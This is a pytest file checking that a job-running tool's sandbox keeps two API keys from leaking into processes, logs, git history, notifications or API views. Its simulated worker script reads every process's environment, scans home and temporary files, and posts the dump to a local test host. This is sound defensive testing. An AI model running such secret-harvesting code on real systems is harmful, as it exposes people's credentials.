"""Two keys, one in a variable of its worker and one behind a proxy: workers try everything, and no key gets out."""

from __future__ import annotations

import contextlib
import os
import subprocess
import threading
from pathlib import Path
from typing import TYPE_CHECKING, Self

import httpx
import pytest
from tests.kit.agents import needs_bubblewrap
from tests.kit.loopback import Asked, Reply, loopback
from tests.kit.nightly import NIGHTLY, by_day
from tests.kit.serving import server
from tests.kit.tools import Agent

if TYPE_CHECKING:
    from collections.abc import Iterator

    from tests.kit.people import Person

IN_ENV, BY_PROXY = "Zq7rT4kW8vLx2mBn6Yc0HsPdUgAe5Ji3", "Mw3pKd9yRt6XbQ1fVn5sLh8zGc2jEu7o"
PLAN = """\
title: Shop
budget: {time_hours: 1}
preferences: {land: auto}
milestones:
  - name: Only
    validation: ["file: `1.1.txt`"]
    features:
      - {title: charge a card, criteria: ["file: `1.1.txt`"]}
      - {title: list orders, criteria: ["file: `1.2.txt`"]}
"""
MORE = """\
      - {title: print a page, criteria: ["file: `1.3.txt`"]}
"""
"""At night there is a third feature, which needs no key, and the first worker commits its key."""
ROWS = """
## Resources

| Name | Type | Status | Reference |
|------|------|--------|-----------|
| Card | credential | available | `file:~/keys/card` |
"""
WORKER = """
import base64, json, urllib.request

def everything():
    yield PROMPT
    yield repr(dict(os.environ))
    places = [*Path("/proc").glob("[0-9]*/environ"), *Path("/proc").glob("[0-9]*/cmdline")]
    for top in (Path.home(), Path.cwd(), Path(os.environ["MISSION_USAGE"]).parent.parent, Path("/tmp")):
        places += [p for p in top.rglob("*") if p.is_file()]
    size = 0
    for place in places:
        try:
            text = f"{place}: {place.read_bytes()[:100_000]!r}"
        except OSError:
            continue
        yield text
        size += len(text)
        if size > 20_000_000:  # the folder of temporary files may be full; larger requests are refused
            return

own, shop = os.environ.get("CARD", ""), os.environ.get("SHOP_URL", "")
dump = "\\n".join(everything())
print("own:", own, json.dumps({"key": own}))
print(f"curl -H 'Authorization: {own}' {shop}")
print("variables:", sorted(v for v in os.environ if v in {"CARD", "SHOP", "SHOP_URL", "SHOP_KEY"}), flush=True)
with open(os.environ["MISSION_NOTES"], "a") as notes:
    notes.write(json.dumps({"kind": "note", "text": "the key is " + own}) + "\\n")
if shop:
    asked = urllib.request.Request(shop + "/orders", data=dump.encode())
    answer = urllib.request.urlopen(asked).read().decode()
    print("the shop says", answer)
    write("1.2.txt", answer)
    commit()
elif own and ATTEMPT == 1 and LEAKS:
    write("1.1.txt", own)
    commit("the key is " + own)
    write("draft.txt", own)
else:
    write(FEATURE + ".txt", dump.replace(own or "-", "-"))
    commit()
"""

REPLACES = """
import os
print("the key is", os.environ["OWN"] == "kQ7vRt2mXw9LpZs4", flush=True)
Path.home().joinpath(".config/mission/env").write_text("OWN=kQ7vRt2mXw9LpZs4\\n")
write(FEATURE + ".txt", FEATURE)
commit()
"""
TWO = """\
title: Two
mode: poc
budget: {time_hours: 1}
milestones:
  - {name: Only, validation: ["file: `1.2.txt`"], features: [{title: one}, {title: two, depends: ["1.1"]}]}
"""


class Watcher:
    """Looks at all processes while a mission runs: which ones have a key on their command line, which jobs in a variable.

    The program's own processes have the variables of the person.
    """

    def __init__(self, repo: Path) -> None:
        self.found: set[str] = set()
        self._repo, self._ended = os.fspath(repo).encode(), threading.Event()
        self._thread = threading.Thread(target=self._look)

    def __enter__(self) -> Self:
        self._thread.start()
        return self

    def __exit__(self, *_: object) -> None:
        self._ended.set()
        self._thread.join()

    def _look(self) -> None:
        while not self._ended.wait(0.05):
            for entry in Path("/proc").iterdir():
                if entry.name.isdigit() and int(entry.name) != os.getpid():
                    with contextlib.suppress(OSError):
                        self._take((entry / "environ").read_bytes(), (entry / "cmdline").read_bytes())

    def _take(self, environ: bytes, command: bytes) -> None:
        for name, key in (("card", IN_ENV), ("shop", BY_PROXY)):
            run = environ.partition(b"MISSION_RUN=")[2].partition(b"\0")[0].decode()
            if key.encode() in command + (environ if run else b""):
                self.found.add(f"{name} in {run or 'a process of the program'}")


@pytest.fixture
def shop() -> Iterator[list[Asked]]:
    """A host that says the key back."""
    with loopback(lambda asked: Reply(body=f"hello {asked.headers.get('authorization')}".encode())) as running:
        os.environ["SHOP_HOST"] = running.url
        yield running.asked
        del os.environ["SHOP_HOST"]


def with_keys(person: Person) -> None:
    """A mission with a feature for each way to get a key, and one that gets none."""
    file = Path.home() / "keys/card"
    file.parent.mkdir()
    file.write_text(IN_ENV + "\n")
    keys = Path.home() / ".config/mission/env"
    keys.parent.mkdir(parents=True, exist_ok=True)
    keys.write_text(f"SHOP_KEY={BY_PROXY}\n")
    person.set(
        f'sandbox = "required"\nnotify = "env > {person.repo.parent}/notified; cat >> {person.repo.parent}/notified"'
    )
    person.worker(f"import os\nLEAKS = {NIGHTLY}\n" + WORKER)
    person.plan(PLAN + MORE * NIGHTLY)
    place = person.file()
    before, _, after = place.read_text().partition("\n## Resources")
    rest = after[after.index("\n## ") :] if "\n## " in after else ""
    text = before.replace("| charge a card |", "| charge a card `[needs:card]` |")
    text = text.replace("| list orders |", "| list orders `[needs:shop]` |")
    place.write_text(text + ROWS + rest)
    person.git("commit", "-qam", "Say what is needed", cwd=person.repo / "missions")
    how = f"proxy {os.environ['SHOP_HOST']}/v1 Authorization: Bearer {{}}"
    person.mission("resource", "add", "m", "Shop", "--reference", "env:SHOP_KEY", "--delivery", how)
    person.mission("resource", "provide", "m", "shop")


def objects(folder: Path) -> Iterator[tuple[str, bytes]]:
    """All objects of all git repositories below a folder, with the place of each repository."""
    for place in (head.parent for head in folder.rglob("HEAD") if (head.parent / "objects").is_dir()):
        command = ["git", f"--git-dir={place}", "cat-file", "--batch-all-objects", "--batch", "--unordered"]
        yield f"objects of {place.relative_to(folder)}", subprocess.run(command, capture_output=True, check=True).stdout


def holding(person: Person) -> dict[str, list[str]]:
    """Where the keys are on disk, of all that a mission writes: repositories, runtime, state folder, notifications."""
    top = person.repo.parent
    texts = [(os.fspath(p.relative_to(top)), p.read_bytes()) for p in top.rglob("*") if p.is_file()]
    state = Path.home() / ".local/state/mission"
    texts += [(os.fspath(p.relative_to(state)), p.read_bytes()) for p in state.rglob("*") if p.is_file()]
    texts += [*objects(top), *objects(state)]
    keys = {"card": IN_ENV, "shop": BY_PROXY}
    return {name: [place for place, text in texts if key.encode() in text] for name, key in keys.items()}


def views(person: Person) -> str:
    """All that people and other programs are shown of it."""
    commands = [
        ("show", "m", "--json"),
        ("status", "m", "--json"),
        ("resource", "list", "m", "--json"),
        ("report", "m"),
    ]
    commands += [
        ("logs", "m/1.1", "--raw"),
        ("logs", "m/1.2"),
        ("context", "m"),
        ("history", "m", "--json"),
        ("why", "m/1.1"),
    ]
    return "".join(
        answer.out + answer.err for answer in (person.mission(*words, ok=None) for words in by_day(commands, 3))
    )


def elsewhere(person: Person) -> str:
    """What the server and the tools of agents say about it."""
    token = person.mission("access", "add", "ada", "--scope", "missions.read", "--json").facts["token"]
    paths = ["", "/history", "/why", "/file", "/context", "/report", "/budget", "/budget/analyze"]
    with server(person) as (facts, _):
        bearer = {"Authorization": f"Bearer {token}"}
        with httpx.Client(base_url=facts["url"], trust_env=False, headers=bearer) as web:
            answers = [web.get(f"/api/v1/missions/m{path}") for path in paths]
    assert {answer.status_code for answer in answers} == {200, 409}, "some views are only of a mission that runs"
    tools = ("mission_get", "mission_status", "mission_why", "mission_history", "mission_budget_report")
    said = [str(Agent(person.repo).call(tool, mission="m")) for tool in tools]
    return "".join([*(answer.text for answer in answers), *said])


def test_no_key_gets_out_of_the_worker_that_has_it_and_a_proxied_one_not_even_in(
    person: Person, shop: list[Asked]
) -> None:
    needs_bubblewrap()
    with_keys(person)
    with Watcher(person.repo) as watcher:
        person.start()
        person.run()
    leak, third = [("1.1-a1", "tampered"), ("1.1-a2", "done")], [("1.3-a1", "done")]
    assert person.causes() == [*(leak if NIGHTLY else [("1.1-a1", "done")]), ("1.2-a1", "done"), *third * NIGHTLY]
    assert watcher.found <= {"card in m/1.1-a1", "card in m/1.1-a2"}
    (asked,) = shop
    assert asked.headers["authorization"] == f"Bearer {BY_PROXY}"
    dump = asked.body.decode()
    assert "SHOP_URL" in dump
    assert BY_PROXY not in dump
    assert IN_ENV not in dump
    assert (person.repo / "1.2.txt").read_text() == f"hello Bearer {'*' * len(BY_PROXY)}"
    logs = [(person.runtime / f"jobs/m/1.{n}-a1/out.log").read_text() for n in (1, 2, *[3] * NIGHTLY)]
    assert [next(line for line in log.splitlines() if "variables" in line) for log in logs] == [
        "variables: ['CARD']",
        "variables: ['SHOP_URL']",
        *["variables: []"] * NIGHTLY,
    ]
    found = holding(person)
    assert found["shop"] == []
    assert [place for place in found["card"] if "/m/1.1-a1" not in place or not NIGHTLY] == [], "only its own tree"
    listed = person.mission("resource", "list", "m").out.replace(os.environ["SHOP_HOST"], "HOST").splitlines()
    assert listed == [
        "Card  available  credential  file:~/keys/card  in CARD",
        "Shop  available  env:SHOP_KEY  to HOST/v1 by SHOP_URL",
    ]
    prompt = (person.repo / "missions/m/runs/1.2-a1.md").read_text()
    assert f"Shop (send requests for {os.environ['SHOP_HOST']}/v1 to the address in the variable SHOP_URL: " in prompt
    shown = views(person) + (elsewhere(person) if NIGHTLY else "")
    assert len(shown) > 1000
    assert [name for name, key in (("card", IN_ENV), ("shop", BY_PROXY)) if key in shown] == []


def test_pulses_that_jobs_start_read_the_key_file_again_and_pass_no_key_on(person: Person) -> None:
    keys = Path.home() / ".config/mission/env"
    keys.parent.mkdir(parents=True, exist_ok=True)
    keys.write_text("OWN=hB3nYc8dFg5JkTq1\n")
    person.worker(REPLACES)
    person.tables[-1] += 'env = {OWN = "env:OWN"}\n'
    person.set(f'sandbox = "off"\nnotify = "env >> {person.repo.parent}/notified"')
    person.plan(TWO)
    person.start()
    person.rest_until("completed")
    logs = [(person.runtime / f"jobs/m/1.{n}-a1/out.log").read_text() for n in (1, 2)]
    assert [log.splitlines()[0] for log in logs] == ["the key is False", "the key is True"]
    told = (person.repo.parent / "notified").read_text()
    assert "MISSION_EVENT=completed" in told
    assert "OWN=" not in told
